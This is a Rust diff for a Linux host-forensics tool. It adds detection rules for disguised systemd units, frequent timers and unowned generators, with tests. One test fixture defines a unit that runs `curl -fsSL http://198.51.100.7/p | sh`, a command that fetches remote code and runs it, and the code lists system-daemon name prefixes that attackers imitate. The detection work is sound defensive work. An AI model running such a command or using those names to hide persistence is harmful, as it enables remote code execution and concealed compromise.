@@ -7,6 +7,56 @@ use crate::context::{Ctx, program};
 use crate::input::BundleInput;
 use dossier_plugin_api::analysis::{Finding, Ioc};
 
+/// Prefixes of names that belong to the system: a local unit so named imitates it.
+const SYSTEM_PREFIXES: &[&str] = &[
+    "systemd-",
+    "dbus-",
+    "kworker",
+    "kthread",
+    "ksoftirq",
+    "kswapd",
+    "udev",
+    "getty",
+    "polkit",
+    "rsyslog",
+    "journal",
+    "network-",
+    "networkd",
+    "sshd",
+    "cron",
+    "atd",
+    "accounts-daemon",
+    "snapd",
+    "irqbalance",
+    "multipathd",
+    "udisks",
+    "upower",
+];
+
+/// What a unit's name imitates, if it imitates something: a kernel thread or system daemon
+/// name, a packaged program (a file in a system binary directory owned by a package) or a
+/// packaged unit on this host.
+pub(crate) fn imitated(ctx: &Ctx, unit: &str) -> Option<String> {
+    let stem = unit
+        .rsplit_once('.')
+        .map_or(unit, |(s, _)| s)
+        .split('@')
+        .next()
+        .unwrap_or(unit)
+        .to_ascii_lowercase();
+    if stem.is_empty() {
+        return None;
+    }
+    if DISGUISE_NAMES.contains(&stem.as_str()) || kernel_thread_name(&stem) {
+        return Some(format!("`{stem}` is the name of a system program"));
+    }
+    if let Some(p) = SYSTEM_PREFIXES.iter().find(|p| stem.starts_with(*p)) {
+        return Some(format!("`{p}...` names belong to the system"));
+    }
+    ctx.packaged_name(&stem)
+        .then(|| format!("`{stem}` is the name of a program or unit a package installs here"))
+}
+
 pub(crate) fn unit_name_mismatch(
     ctx: &Ctx,
     _: &AnalysisConfig,
@@ -24,15 +74,29 @@ pub(crate) fn unit_name_mismatch(
         if is_interpreter(b) || names_match(&u.rec.name, b) {
             continue;
         }
-        out.push(finding(
-            &u.rec.name,
-            format!(
-                "unit {} runs {prog}, a binary whose name has nothing in common with the unit's",
-                u.rec.name
+        let iocs = vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(prog.clone())];
+        let ev = ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source));
+        out.push(match imitated(ctx, &u.rec.name) {
+            Some(what) => finding(
+                &u.rec.name,
+                format!(
+                    "unit {} runs {prog}, another program, under a name that imitates the system: {what}",
+                    u.rec.name
+                ),
+                ev,
+                iocs,
             ),
-            ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
-            vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(prog.clone())],
-        ));
+            None => finding(
+                &u.rec.name,
+                format!(
+                    "unit {} runs {prog}, a binary whose name has nothing in common with the unit's (the name imitates nothing on this host)",
+                    u.rec.name
+                ),
+                ev,
+                iocs,
+            )
+            .context(),
+        });
     }
     out
 }
@@ -71,9 +135,8 @@ pub(crate) fn inline_shell_download(
 ) -> Vec<Finding> {
     let mut out = Vec::new();
     for u in &ctx.units {
-        let owned = ctx.has_package_db && ctx.is_owned(&u.rec.path);
         for cmd in unit_commands(&u.rec) {
-            if let Some(why) = shell_pattern(cmd, owned) {
+            if let Some(why) = hook_line_pattern(cmd) {
                 out.push(finding(
                     &u.rec.name,
                     format!("unit {} {why}: `{cmd}`", u.rec.name),
@@ -84,8 +147,7 @@ pub(crate) fn inline_shell_download(
         }
     }
     for c in &ctx.cron {
-        let owned = ctx.has_package_db && ctx.is_owned(&c.rec.source.path);
-        if let Some(why) = shell_pattern(&c.rec.command, owned) {
+        if let Some(why) = hook_line_pattern(&c.rec.command) {
             let src = &c.rec.source.path;
             out.push(finding(
                 format!("{src}:{}", c.rec.line),
@@ -156,24 +218,89 @@ pub(crate) fn aggressive_timer(
                 || c.ends_with("/5")
         });
         if let Some(s) = short.or(cal) {
-            out.push(finding(
-                &u.rec.name,
-                format!(
-                    "timer {} (no package owns it) starts {} every `{s}`",
-                    u.rec.name, t.unit
+            // Persistence pointing at something bad is behaviour; a frequent local timer
+            // running an ordinary program is context.
+            let bad = ctx
+                .units
+                .iter()
+                .filter(|x| x.rec.name == t.unit)
+                .flat_map(|x| unit_commands(&x.rec))
+                .find_map(|c| command_problem(ctx, c).map(|why| format!("`{c}` {why}")));
+            let mut ev = ctx.ev(u, format!("timer {}", u.rec.name), Some(&u.rec.source));
+            for x in ctx.units.iter().filter(|x| x.rec.name == t.unit) {
+                ev.extend(ctx.ev(x, format!("unit {}", x.rec.name), Some(&x.rec.source)));
+            }
+            let iocs = vec![Ioc::Unit(u.rec.name.clone()), Ioc::Unit(t.unit.clone())];
+            out.push(match bad {
+                Some(why) => finding(
+                    &u.rec.name,
+                    format!(
+                        "timer {} (no package owns it) starts {} every `{s}`, and that unit runs something bad: {why}",
+                        u.rec.name, t.unit
+                    ),
+                    ev,
+                    iocs,
                 ),
-                ctx.ev(u, format!("timer {}", u.rec.name), Some(&u.rec.source)),
-                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Unit(t.unit.clone())],
-            ));
+                None => finding(
+                    &u.rec.name,
+                    format!(
+                        "timer {} (no package owns it) starts {} every `{s}`",
+                        u.rec.name, t.unit
+                    ),
+                    ev,
+                    iocs,
+                )
+                .context(),
+            });
         }
     }
     out
 }
 
+/// Directories systemd loads units from: a generator linking a unit from elsewhere enables a
+/// file nobody looks for.
+const UNIT_DIRS: &[&str] = &[
+    "/usr/lib/systemd/",
+    "/lib/systemd/",
+    "/etc/systemd/",
+    "/run/systemd/",
+    "/usr/local/lib/systemd/",
+];
+
+/// What a generator's script writes that is bad: a link to a unit file kept outside systemd's
+/// directories (`ln -s /usr/lib/x/kmodd.service "$1"/...`).
+fn generator_writes(text: &str) -> Option<(usize, String, String)> {
+    const SUFFIXES: &[&str] = &[".service", ".timer", ".socket", ".path", ".mount"];
+    text.lines().enumerate().find_map(|(i, l)| {
+        let t = l.trim();
+        if t.starts_with('#')
+            || !t
+                .split_whitespace()
+                .any(|w| w == "ln" || w.ends_with("/ln"))
+        {
+            return None;
+        }
+        t.split_whitespace()
+            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
+            .find(|w| {
+                w.starts_with('/')
+                    && SUFFIXES.iter().any(|s| w.ends_with(s))
+                    && !UNIT_DIRS.iter().any(|d| w.starts_with(d))
+            })
+            .map(|w| {
+                (
+                    i + 1,
+                    t.to_string(),
+                    format!("enables the unit file {w}, kept outside systemd's unit directories"),
+                )
+            })
+    })
+}
+
 pub(crate) fn generator_unowned(
     ctx: &Ctx,
-    _: &AnalysisConfig,
-    _: &mut BundleInput<'_>,
+    cfg: &AnalysisConfig,
+    input: &mut BundleInput<'_>,
 ) -> Vec<Finding> {
     let mut out = Vec::new();
     for g in &ctx.generators {
@@ -197,19 +324,178 @@ pub(crate) fn generator_unowned(
                 .and_then(|s| s.sha256.clone())
                 .map(Ioc::Sha256),
         );
-        out.push(finding(
-            &g.rec.path,
-            format!(
-                "{} generator {} runs at every boot and daemon-reload and no package owns it",
-                g.rec.scope, g.rec.path
+        // What it does: its script's lines (the same detectors as hooks, and the units it
+        // writes), where it lives, and whether its name imitates systemd's own generators.
+        let text = g
+            .rec
+            .source
+            .as_ref()
+            .and_then(|s| s.member.as_ref())
+            .and_then(|m| (input.read_member)(m, cfg.max_scan_bytes.min(16 << 20)).ok())
+            .map(|d| String::from_utf8_lossy(&d).into_owned());
+        let content = text.as_deref().and_then(|t| {
+            script_patterns(t)
+                .into_iter()
+                .next()
+                .or_else(|| generator_writes(t))
+                .map(|(n, line, why)| {
+                    format!(
+                        "line {n} {why}: `{}`",
+                        line.chars().take(200).collect::<String>()
+                    )
+                })
+        });
+        let name = base(&g.rec.path);
+        let bad = content
+            .or_else(|| unusual_location(&judged).map(|w| format!("it runs {judged}: {w}")))
+            .or_else(|| {
+                name.starts_with("systemd-")
+                    .then(|| format!("its name `{name}` imitates systemd's own generators"))
+            });
+        let ev = ctx.ev(
+            g,
+            format!("generator {}", g.rec.path),
+            g.rec.source.as_ref(),
+        );
+        out.push(match bad {
+            Some(why) => finding(
+                &g.rec.path,
+                format!(
+                    "{} generator {} runs at every boot and daemon-reload, no package owns it, and {why}",
+                    g.rec.scope, g.rec.path
+                ),
+                ev,
+                iocs,
             ),
-            ctx.ev(
-                g,
-                format!("generator {}", g.rec.path),
-                g.rec.source.as_ref(),
-            ),
-            iocs,
-        ));
+            None => finding(
+                &g.rec.path,
+                format!(
+                    "{} generator {} runs at every boot and daemon-reload and no package owns it (its content does nothing recognisably bad)",
+                    g.rec.scope, g.rec.path
+                ),
+                ev,
+                iocs,
+            )
+            .context(),
+        });
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::config::AnalysisConfig;
+    use crate::engine::analyze;
+    use crate::testkit::input;
+    use dossier_plugin_api::analysis::{Finding, HostAnalysis};
+    use serde_json::json;
+
+    fn unit(line: usize, name: &str, exec: &str) -> (usize, serde_json::Value) {
+        let path = format!("/etc/systemd/system/{name}");
+        (
+            line,
+            json!({"kind": "unit", "name": name, "unit_type": name.rsplit('.').next().unwrap(),
+                   "scope": "system", "path": path, "source": {"path": path},
+                   "unit_dir": "/etc/systemd/system", "masked": false, "enabled": true,
+                   "exec_start": if exec.is_empty() { vec![] } else { vec![exec] }}),
+        )
+    }
+
+    fn packages() -> Vec<(usize, serde_json::Value)> {
+        vec![
+            (
+                1,
+                json!({"kind": "package", "manager": "dpkg", "name": "coreutils", "version": "9", "source": {"path": "/var/lib/dpkg/status"}}),
+            ),
+            (
+                2,
+                json!({"kind": "package_files", "manager": "dpkg", "package": "coreutils",
+                       "files": ["/usr/bin/sleep", "/usr/sbin/cron", "/usr/bin/restic", "/usr/lib/systemd/system/cron.service"],
+                       "source": {"path": "x"}}),
+            ),
+        ]
+    }
+
+    fn run(units: Vec<(usize, serde_json::Value)>) -> HostAnalysis {
+        let records = [
+            ("systemd".to_string(), units),
+            ("packages".to_string(), packages()),
+        ]
+        .into_iter()
+        .collect();
+        let mut read = |_: &str, _: u64| Err("none".to_string());
+        let mut inp = input(records, &mut read);
+        analyze(&mut inp, &AnalysisConfig::default())
+    }
+
+    fn of<'a>(a: &'a HostAnalysis, rule: &str) -> Vec<&'a Finding> {
+        a.findings
+            .iter()
+            .chain(&a.context)
+            .filter(|f| f.rule == rule)
+            .collect()
+    }
+
+    #[test]
+    fn unit_names_are_judged_by_what_they_imitate() {
+        let a = run(vec![
+            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
+            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
+            unit(3, "python.service", "/var/log/log"),
+            unit(4, "systemd-netd.service", "/opt/x/agent"),
+            unit(5, "cron-helper.service", "/opt/y"),
+        ]);
+        let m = of(&a, "unit-name-mismatch");
+        let behaviour: Vec<&str> = a
+            .findings
+            .iter()
+            .filter(|f| f.rule == "unit-name-mismatch")
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(m.len(), 5, "{m:?}");
+        assert_eq!(
+            behaviour,
+            [
+                "cron-helper.service",
+                "python.service",
+                "systemd-netd.service"
+            ]
+        );
+        // A local heartbeat and a backup unit are normal: context only, nothing scored.
+        let a = run(vec![
+            unit(1, "heartbeat.service", "/usr/bin/sleep infinity"),
+            unit(2, "backup.service", "/usr/bin/restic backup /srv"),
+        ]);
+        assert_eq!((a.score, a.hits.len()), (0, 0), "{:?}", a.hits);
+        assert!(of(&a, "unit-local-unowned").len() == 2);
+    }
+
+    #[test]
+    fn inline_shell_and_timers_judge_content() {
+        let mut timer = unit(3, "poll.timer", "");
+        timer.1["timer"] = json!({"unit": "poll.service", "on_unit_active_sec": ["1min"]});
+        let mut quiet = unit(5, "sync.timer", "");
+        quiet.1["timer"] = json!({"unit": "sync.service", "on_unit_active_sec": ["2min"]});
+        let a = run(vec![
+            unit(1, "local.service", "/bin/sh -c 'echo hi >/run/x'"),
+            unit(
+                2,
+                "poll.service",
+                "/bin/sh -c 'curl -fsSL http://198.51.100.7/p | sh'",
+            ),
+            timer,
+            unit(4, "sync.service", "/usr/bin/sleep 1"),
+            quiet,
+        ]);
+        let sh: Vec<&str> = of(&a, "inline-shell-download")
+            .iter()
+            .map(|f| f.subject.as_str())
+            .collect();
+        assert_eq!(sh, ["poll.service"], "a bare sh -c is not judged");
+        let timers: Vec<(&str, bool)> = of(&a, "aggressive-timer-unowned")
+            .iter()
+            .map(|f| (f.subject.as_str(), f.class.is_behaviour()))
+            .collect();
+        assert_eq!(timers, [("poll.timer", true), ("sync.timer", false)]);
+    }
 }
